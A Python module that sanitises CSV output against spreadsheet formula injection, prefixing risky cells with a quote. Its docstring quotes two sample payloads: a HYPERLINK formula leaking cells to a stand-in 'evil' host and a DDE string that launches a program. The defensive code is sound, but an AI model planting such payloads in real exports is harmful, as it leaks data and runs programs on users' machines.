"""CSV that is safe to open in a spreadsheet: every CSV the site or a command writes goes through here.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel, LibreOffice
and Google Sheets as a formula: a decision note of `=HYPERLINK("http://evil/?"&A1, "open")` sends
the neighbouring cells away, `+cmd|' /C calc'!A0` runs a program. OWASP's rule: prefix such a cell
with a single quote, so it is shown as the text it is. Numbers are left alone (they are ours, never
a person's text). defusedcsv does this too, but not for tab and carriage return, and it rewrites
`|` inside cells, so the rule is kept here.
"""

import csv
from collections.abc import Iterable, Iterator
from numbers import Number
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet will show it, never run it."""
    if value is None or isinstance(value, Number):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class _Line:
    """csv.writer writes to this and gets its line back, so each row streams as it is made."""

    def write(self, line: str) -> str:
        return line


def csv_lines(header: Iterable[str], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """CSV lines, header first, every cell made safe: for StreamingHttpResponse or a file."""
    writer = csv.writer(_Line())
    yield writer.writerow([safe_cell(cell) for cell in header])
    for row in rows:
        yield writer.writerow([safe_cell(cell) for cell in row])


def write_csv(f: IO[str], header: Iterable[str], rows: Iterable[Iterable[Any]]) -> None:
    """`csv_lines` into an open text file."""
    f.writelines(csv_lines(header, rows))
